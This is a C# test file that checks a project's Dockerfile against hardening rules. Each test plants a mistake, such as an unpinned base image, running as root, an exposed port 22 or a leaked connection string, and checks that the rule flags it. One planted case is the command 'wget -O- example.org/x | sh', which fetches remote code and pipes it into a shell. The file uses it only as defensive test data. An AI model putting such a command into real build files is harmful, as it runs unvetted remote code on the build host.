using OrleansSgd.Deployment.Tests.Texts;

namespace OrleansSgd.Deployment.Tests.Docker;

/// <summary>Goal: the image builds, is small in rights and says whether it is well. Method: rules, each shown to catch a planted mistake.</summary>
public sealed class DockerfileTests
{
    private static readonly string Text = Checkout.Read("infra/Dockerfile");
    private static readonly string Ignore = Checkout.Read("infra/Dockerfile.dockerignore");

    [Fact]
    public void The_Dockerfile_keeps_every_rule() => Assert.Empty(DockerfileRules.Findings(Text, Ignore, Read));

    [Theory]
    [InlineData("aspnet:10.0-noble", "aspnet:latest", "is not pinned")]
    [InlineData("aspnet:10.0-noble", "aspnet", "is not pinned")]
    [InlineData("USER 1654:1654", "USER root", "runs as root")]
    [InlineData("USER 1654:1654", "", "runs as root")]
    [InlineData("COPY src/ src/", "ADD src/ src/", "use COPY")]
    [InlineData("COPY src/ src/", "COPY sources/ src/", "sources is not in the checkout")]
    [InlineData("COPY src/ src/", "COPY tests/ src/", "kept out by the ignore file")]
    [InlineData("--from=build", "--from=builder", "names no stage")]
    [InlineData("COPY src/Grains/Grains.csproj src/Grains/\n", "", "src/Grains/Grains.csproj is not copied")]
    [InlineData("COPY src/Certifier", "COPY src/ src/\nCOPY src/Certifier", "each change restores anew")]
    [InlineData("--retries=3 CMD [\"/app/grid\", \"doctor\", \"--quick\"]", "--retries=3 CMD /app/grid doctor", "no HEALTHCHECK")]
    [InlineData("HEALTHCHECK", "LABEL", "no HEALTHCHECK")]
    [InlineData("ENTRYPOINT [\"/app/grid\"]", "ENTRYPOINT /app/grid", "run by a shell")]
    [InlineData("GRID_DATA=", "GRID_DATEN=", "nobody reads GRID_DATEN")]
    [InlineData("GRID_DATA=", "GRID_STORE_CONNECTION=", "would stay in the image")]
    [InlineData("EXPOSE 11111", "EXPOSE 22 11111", "EXPOSE names 22")]
    [InlineData("COPY jobs/", "RUN wget -O- example.org/x | sh\nCOPY jobs/", "piped into a shell")]
    public void A_planted_mistake_is_caught(string old, string planted, string sentence) => Assert.Contains(
        DockerfileRules.Findings(Checkout.Plant(Text, old, planted), Ignore, Read),
        finding => finding.Contains(sentence, StringComparison.Ordinal));

    private static string? Read(string path) => !Checkout.Has(path) ? null : path.EndsWith(".csproj", StringComparison.Ordinal) ? Checkout.Read(path) : "";
}
